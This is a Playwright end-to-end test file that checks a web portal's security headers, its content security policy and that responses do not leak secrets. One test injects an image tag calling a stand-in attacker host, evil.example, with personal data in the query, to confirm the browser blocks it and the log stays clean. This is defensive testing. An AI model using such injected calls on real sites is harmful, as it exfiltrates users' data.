/**
 * The headers of every answer, as the build names the routes, compared with e2e/headers.spec.ts-snapshots/headers.txt. After a
 * new route or a changed header, read the difference, then: npx playwright test e2e/headers.spec.ts --update-snapshots
 */
import { readFileSync } from 'node:fs';
import { type APIRequestContext, request } from '@playwright/test';
import { readSecrets } from '../demo/secrets.ts';
import { ask } from '../testing/plain-client.ts';
import { listRoutes, listStatic, pathOf } from './support/build.ts';
import { insertLiveFor } from './support/department-rows.ts';
import { expect, signIn, test } from './support/fixtures.ts';
import { portal, portalLog, ports, provider } from './support/place.ts';

type Seen = { what: string; who: string; headers: [string, string][] };

/** Of the connection or of the content: they differ from one answer to the next and say nothing about who may do what. */
const ofTheMoment = [
  'connection',
  'content-length',
  'date',
  'etag',
  'keep-alive',
  'last-modified',
  'link',
  'transfer-encoding',
  'x-nextjs-cache',
];

const mask = (name: string, value: string): string => {
  const known = value.replaceAll(provider, '<sign-on>').replaceAll(portal, '<portal>').replaceAll(String(ports.portal), '<port>');
  if (name === 'x-request-id') return known.replace(/^\d{4}-\d{4}-\d{4}$/, '<reference>');
  if (name === 'content-security-policy') return known.replace(/'nonce-[^']+'/g, "'nonce-…'");
  if (name === 'set-cookie') return known.replace(/^([^=]+)=[^;]*/, '$1=…').replace(/Expires=[^;]+/i, 'Expires=…');
  if (name === 'location' || name === 'refresh') return known.replace(/\?.*/, '?…').replace(/[0-9a-f]{8}-[0-9a-f-]{27}/, '[id]');
  return known;
};

/** Text that no answer holds: secrets of the settings, the addresses they lead to, and the reader's session, which no script may read. */
const secretsFor = async (api: APIRequestContext): Promise<string[]> => {
  const { clientSecret, sessionSecret, cookieKey } = readSecrets('.demo/e2e');
  const { cookies } = await api.storageState();
  const tokens = cookies.filter(({ httpOnly, value }) => httpOnly && value.length > 20).map(({ value }) => value);
  return [clientSecret, sessionSecret, cookieKey, 'postgres://', 'smtp://', ...tokens];
};

const look = async (api: APIRequestContext, who: string, path: string, shown = path, method = 'GET'): Promise<Seen> => {
  const answer = await api.fetch(path, { method, maxRedirects: 0 });
  const body = await answer.text();
  for (const secret of await secretsFor(api))
    expect.soft(body.includes(secret), `${shown} (${who}) says ${secret.slice(0, 9)}…`).toBe(false);
  const headers = answer
    .headersArray()
    .map(({ name, value }): [string, string] => [name.toLowerCase(), mask(name.toLowerCase(), value)])
    .filter(([name]) => !ofTheMoment.includes(name))
    .sort(([a], [b]) => a.localeCompare(b));
  return { what: `${answer.status()} ${method} ${shown}`, who, headers };
};

/** Answers with the same headers stand together above them; the policy, when it is the same for all, stands once. */
const toText = (seen: Seen[]): string => {
  const [policy = ''] = seen.map((each) => headerOf(each, 'content-security-policy'));
  const groups = new Map<string, Map<string, string[]>>();
  for (const { what, who, headers } of seen) {
    const key = headers.map(([name, value]) => `    ${name}: ${value === policy ? '<policy>' : value}`).join('\n');
    const group = groups.get(key) ?? new Map<string, string[]>();
    groups.set(key, group.set(what, [...(group.get(what) ?? []), who]));
  }
  const toLines = (group: Map<string, string[]>) => [...group].map(([what, people]) => `${what} (${people.join(', ')})`).join('\n');
  return `<policy> = ${policy}\n\n${[...groups].map(([key, group]) => `${toLines(group)}\n${key}`).join('\n\n')}\n`;
};

const headerOf = (seen: Seen, name: string): string => seen.headers.find(([each]) => each === name)?.[1] ?? '';

const directives = ["default-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "'nonce-…'"];

/** Rules that hold whatever the snapshot says. */
const expectSafe = (seen: Seen): void => {
  for (const directive of directives) expect.soft(headerOf(seen, 'content-security-policy'), seen.what).toContain(directive);
  expect.soft(headerOf(seen, 'content-security-policy'), seen.what).not.toMatch(/unsafe|https?:|\*/);
  expect.soft(headerOf(seen, 'permissions-policy'), seen.what).toContain('camera=(), ');
  expect.soft(headerOf(seen, 'x-content-type-options'), seen.what).toBe('nosniff');
  expect.soft(headerOf(seen, 'referrer-policy'), seen.what).toBe('same-origin');
  expect.soft(headerOf(seen, 'cross-origin-opener-policy'), seen.what).toBe('same-origin');
  for (const telling of ['x-powered-by', 'server']) expect.soft(headerOf(seen, telling), seen.what).toBe('');
  const isStatic = /^200 GET \/_next\/static\//.test(seen.what);
  expect
    .soft(headerOf(seen, 'cache-control'), seen.what)
    .toMatch(isStatic ? /^public, max-age=31536000, immutable$/ : /^(private, .*)?no-store/);
  if (!isStatic) expect.soft(headerOf(seen, 'cache-control'), seen.what).not.toContain('public');
};

test('every answer has the headers it had', async ({ sql, department }, info) => {
  // The text is the same on every system.
  info.snapshotSuffix = '';
  const live = await insertLiveFor(sql, department, { headline: 'Headers' });
  const people = { nobody: null, employee: department.one, editor: 'elena' };
  const lookAs = async ([who, name]: [string, string | null]): Promise<Seen[]> => {
    const seen: Seen[] = [];
    // With all cookies of a real sign-in, whoever signed in here before: answers differ without them.
    const api = await request.newContext({ baseURL: portal, ...(name ? { storageState: await signIn(name) } : {}) });
    for (const route of listRoutes()) seen.push(await look(api, who, pathOf(route, { id: live }), pathOf(route, { id: '[id]' })));
    for (const path of [
      '/live/state',
      '/live/nothing',
      '/health/live',
      '/health/ready',
      '/health/nothing',
      '/no/such',
      '/newsroom/',
      '/_next/image',
    ])
      seen.push(await look(api, who, path));
    seen.push(await look(api, who, '/live/receipts', '/live/receipts', 'POST'));
    seen.push(await look(api, who, '/', '/', 'POST'));
    await api.dispose();
    return seen;
  };
  const seen = (await Promise.all(Object.entries(people).map(lookAs))).flat();
  const api = await request.newContext({ baseURL: portal });
  const files = listStatic(await (await api.get('/sign-in')).text());
  for (const ending of ['js', 'css']) {
    const file = files.find((each) => each.endsWith(ending)) ?? '';
    seen.push(await look(api, 'nobody', file, `/_next/static/….${ending}`));
  }
  seen.push(await look(api, 'nobody', '/_next/static/nothing.js'));
  await api.dispose();
  for (const each of seen) expectSafe(each);
  expect(toText(seen)).toMatchSnapshot('headers.txt');
});

test('what the policy refuses in a browser is a line of the log', async ({ browserOf, department }) => {
  const page = await browserOf(department.one);
  await page.goto('/archive?q=who+is+ill');
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png?person=ana" alt="">');
  });
  const lines = () =>
    readFileSync(portalLog, 'utf8')
      .split('\n')
      .filter((line) => line.includes('content policy: refused in a browser'));
  await expect.poll(() => lines().some((line) => line.includes('https://evil.example/x.png'))).toBe(true);
  for (const line of lines()) expect(line).not.toMatch(/person=ana|who\+is\+ill/);
});

test('a stream is nobody else’s to read or keep', async () => {
  // Signed out: the stream ends at once.
  const { status, headers } = await ask(ports.portal, '/live');
  expect(status).toBe(200);
  expect(headers).toMatchObject({
    'content-type': 'text/event-stream',
    'cache-control': 'private, no-store, no-cache, no-transform',
    'x-content-type-options': 'nosniff',
  });
  for (const telling of ['x-powered-by', 'server', 'access-control-allow-origin']) expect(headers).not.toHaveProperty([telling]);
});
